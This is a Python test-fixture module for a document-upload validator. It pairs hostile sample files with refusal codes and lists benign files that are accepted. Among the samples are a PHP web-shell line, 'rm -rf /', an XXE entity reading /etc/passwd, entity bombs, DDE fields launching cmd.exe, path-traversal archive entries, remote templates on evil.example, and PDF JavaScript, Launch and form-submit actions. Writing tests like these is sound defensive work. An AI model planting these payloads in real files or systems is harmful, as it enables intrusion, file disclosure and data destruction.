"""What strangers may send: content by name, with the code of the refusal or the kind it is taken for."""

from tests.vault import samples as s
from vault.unzip import MAX_DEPTH, MAX_ENTRIES

JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
URI = b"<< /S /URI /URI (http://evil.example) >>"
OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
DOCTYPE = '<!DOCTYPE a [<!ENTITY x "lol"><!ENTITY y "&x;&x;&x;&x;">]>'
EVENT = "<office:scripts><office:event-listeners><script:event-listener/></office:event-listeners></office:scripts>"
HOME = "file:///C:\\Users\\Anna\\Templates\\Resume.dotx"


def template(target):
    return s.docx(extra={"word/_rels/settings.xml.rels": s.relations("attachedTemplate", target)})


def related(*args, **kwargs):
    return s.docx(extra={"word/_rels/document.xml.rels": s.relations(*args, **kwargs)})


def field(*pieces):
    return s.docx(raw="".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces))


def damaged(data):
    return data[:60] + b"\xff\xff" + data[62:]


REFUSED = {
    "nothing at all": (b"", "empty"),
    "only blanks": (b" \n\t \n", "empty"),
    "a program for Windows": (b"MZ\x90\x00\x03\x00\x00\x00", "type"),
    "a program for Linux": (b"\x7fELF\x02\x01\x01\x00", "type"),
    "a picture": (s.png(), "type"),
    "a photograph": (s.jpeg(), "type"),
    "an animated picture": (b"GIF89a\x01\x00\x01\x00;\x00", "type"),
    "an old Word file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_word"),
    "an RTF file": (b"{\\rtf1\\ansi Anna}", "rtf"),
    "a web page": (b"<!DOCTYPE html><html><script>alert(1)</script>", "markup"),
    "a web page behind blanks": (b"\xef\xbb\xbf \n<HTML><body onload=alert(1)>", "markup"),
    "a drawing with a script": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "markup"),
    "a PHP page": (b"<?php system($_GET['c']);", "markup"),
    "a shell script": (b"#!/bin/sh\nrm -rf /\n", "markup"),
    "text with a NUL": (b"Anna\x00Smith", "type"),
    "text with terminal codes": (b"Anna \x1b[31mSmith\x1b[0m", "type"),
    "gzip": (b"\x1f\x8b\x08\x00" + b"\0" * 20, "type"),
    "an empty archive": (b"PK\x05\x06" + b"\0" * 18, "type"),
    "an archive of pictures": (s.zipped({"a.png": s.png()}), "type"),
    "a spreadsheet": (s.docx(kind=s.WORD_TYPE.replace("wordprocessingml.document", "spreadsheetml.sheet")), "type"),
    "a Word file with macros": (s.docx(kind=s.MACRO_TYPE), "macros"),
    "a macro under a plain type": (s.docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macros"),
    "a DDE field": (field(' DDEAUTO c:\\cmd.exe "/k calc" '), "macros"),
    "a DDE field in pieces": (field("DD", "EAUTO c:\\x"), "macros"),
    "a simple DDE field": (s.docx(raw='<w:fldSimple w:instr="DDE excel x"/>'), "macros"),
    "an OLE object": (s.docx(extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "embedded"),
    "an ActiveX control": (s.docx(extra={"word/activeX/activeX1.xml": "<a/>"}), "embedded"),
    "a pasted web page": (related("aFChunk", "a.html", external=False), "embedded"),
    "a template on the web": (template("https://evil.example/t.dotm"), "remote"),
    "a template on a file server": (template("file://evil.example/t.dotm"), "remote"),
    "a template on a share": (template("\\\\evil.example\\t.dotm"), "remote"),
    "a picture that reports home": (related("image", "http://evil.example/p.png"), "remote"),
    "entities in a DOCX": (s.docx(extra={"word/document.xml": DOCTYPE + s.word_xml("&y;")}), "doctype"),
    "an outside entity": (s.docx(extra={"word/x.xml": OUTSIDE}), "doctype"),
    "entities in UTF-16": (s.docx(extra={"word/x.xml": (DOCTYPE + "<a>&y;</a>").encode("utf-16")}), "doctype"),
    "entities in an ODT": (s.odt(extra={"styles.xml": DOCTYPE + "<a>&y;</a>"}), "doctype"),
    "XML in an encoding nobody knows": (
        s.docx(extra={"word/x.xml": '<?xml version="1.0" encoding="x-nonsense"?><a/>'}), "broken"),
    "XML that does not close": (s.docx(extra={"word/x.xml": "<a><b>"}), "broken"),
    "XML far too deep": (s.docx(raw="<w:p>" * (MAX_DEPTH + 1) + "</w:p>" * (MAX_DEPTH + 1)), "bomb"),
    "too many entries": (s.docx(extra={f"word/{n}.txt": "" for n in range(MAX_ENTRIES)}), "bomb"),
    "one entry that unpacks to 20 MB": (lambda: s.docx(extra={"word/media/a.bmp": b"\0" * 20_000_000}), "bomb"),
    "XML that unpacks to 12 MB": (lambda: s.docx("a" * 12_000_000), "bomb"),
    "a size that lies": (s.lying_size, "bomb"),
    "entries that share their bytes": (s.overlapping(), "bomb"),
    "a protected DOCX": (s.set_flag(s.docx()), "protected"),
    "a protected ODT": (s.odt(extra={"META-INF/manifest.xml": "<m><encryption-data/></m>"}), "protected"),
    "a way out of the folder": (s.docx(extra={"../../etc/cron.d/x": "a"}), "broken"),
    "a way out for Windows": (s.docx(extra={"..\\..\\x": "a"}), "broken"),
    "an entry from the root": (s.docx(extra={"/etc/passwd": "a"}), "broken"),
    "half a DOCX": (s.docx()[:400], "two_in_one"),
    "a DOCX with a tail": (s.docx() + b"<script>alert(1)</script>", "two_in_one"),
    "a program with a DOCX behind": (b"MZ\x00" + s.docx(), "type"),
    "a DOCX with a damaged byte": (damaged(s.docx()), "broken"),
    "Basic in an ODT": (s.odt(extra={"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
    "an event in an ODT": (s.odt(raw=EVENT), "macros"),
    "an OLE object in an ODT": (s.odt(raw="<draw:object-ole/>"), "embedded"),
    "an ODT that reports home": (s.odt(raw='<draw:image xlink:href="http://evil.example/p.png"/>'), "remote"),
    "JavaScript in a PDF": (s.pdf(JS, catalog=b"/OpenAction 5 0 R"), "active"),
    "JavaScript with escapes": (s.pdf(b"<< /S /J#61vaScr#69pt /JS (x) >>"), "active"),
    "JavaScript behind a comment": (s.pdf(b"<< /S % a comment\n /JavaScript /JS (x) >>"), "active"),
    "JavaScript in a packed object": (s.pdf(s.packed(JS)), "active"),
    "JavaScript in a disguised packed object": (s.pdf(s.packed(JS, name=b"/XObject")), "active"),
    "JavaScript by reference": (s.pdf(b"<< /S 6 0 R /JS (x) >>", b"/JavaScript"), "active"),
    "a packed object that hides twice": (s.pdf(s.packed(JS, filters=b"[/ASCIIHexDecode /FlateDecode]")), "active"),
    "a PDF that starts a program": (s.pdf(b"<< /S /Launch /F (cmd.exe) >>"), "active"),
    "a PDF that sends a form": (s.pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"), "active"),
    "a PDF that opens an address": (s.pdf(catalog=b"/OpenAction << /S /URI /URI (http://evil.example) >>"), "active"),
    "a PDF that opens an address by reference": (s.pdf(URI, catalog=b"/OpenAction 5 0 R"), "active"),
    "a PDF that opens a packed address": (s.pdf(s.packed(URI), catalog=b"/OpenAction 50 0 R"), "active"),
    "a dynamic form": (s.pdf(catalog=b"/AcroForm << /XFA 5 0 R >>"), "active"),
    "a film in a PDF": (s.pdf(b"<< /Subtype /RichMedia >>"), "active"),
    "a protected PDF": (s.pdf(b"<< /Filter /Standard >>", trailer=b"/Encrypt 5 0 R"), "protected"),
    "half a PDF": (s.printed_pdf()[:500], "cut_off"),
    "only a PDF's first line": (b"%PDF-1.7\n", "cut_off"),
    "a PDF without pages": (b"%PDF-1.7\n1 0 obj << /Root 1 0 R >> endobj\nstartxref\n9\n%%EOF", "broken"),
    "a PDF and an archive": (s.pdf() + s.zipped({"a.txt": "a"}), "two_in_one"),
    "a PDF and a page": (s.pdf().replace(b"%\xe2\xe3\xcf\xd3", b"%<script>alert(1)</script>"), "two_in_one"),
    "a PDF with a tail": (s.pdf() + b"alert(1)", "two_in_one"),
    "a PDF behind something": (b"GIF89a\x00" + s.pdf(), "type"),
    "a PDF of the future": (s.pdf().replace(b"%PDF-1.7", b"%PDF-x.y"), "type"),
}  # fmt: skip

TAKEN = {
    "a printed PDF": (s.printed_pdf(), "pdf"),
    "a small PDF": (s.pdf(), "pdf"),
    "a PDF with packed objects": (s.pdf(s.packed(b"<< /Type /Font >>")), "pdf"),
    "a PDF that opens at a page": (s.pdf(catalog=b"/OpenAction [3 0 R /Fit]"), "pdf"),
    "a PDF that goes to a page, with links": (
        s.pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>", b"<< /S /URI /URI (https://anna.example) >>",
              catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"), "pdf"),
    "a PDF of somebody who knows JavaScript": (
        s.pdf(content=b"BT (HTML/CSS/JavaScript) Tj ET", trailer=b"/Info << /Title (Node/JavaScript) >>"), "pdf"),
    "a PDF with other files inside": (s.pdf(b"<< /Type /EmbeddedFile /Length 1 >>\nstream\na\nendstream"), "pdf"),
    "a DOCX": (s.docx(), "docx"),
    "a DOCX from a template on the disk": (
        template(HOME), "docx"),
    "a DOCX with links": (
        related("hyperlink", "https://anna.example"), "docx"),
    "a DOCX with a chart's sheet": (s.docx(extra={"word/embeddings/Sheet1.xlsx": s.zipped({"a": "b"})}), "docx"),
    "an ODT": (s.odt(), "odt"),
    "an ODT with links": (s.odt(raw='<text:p><text:a xlink:href="https://anna.example">me</text:a></text:p>'), "odt"),
    "text": ("Żółw, Ärger, 王".encode(), "txt"),
    "text from an old Windows": ("Ärger mit Größe".encode("cp1252"), "txt"),
    "text from Notepad": ("Anna Smith".encode("utf-16"), "txt"),
    "text about markup": (b"I write <html> and <script> by hand.", "txt"),
}  # fmt: skip
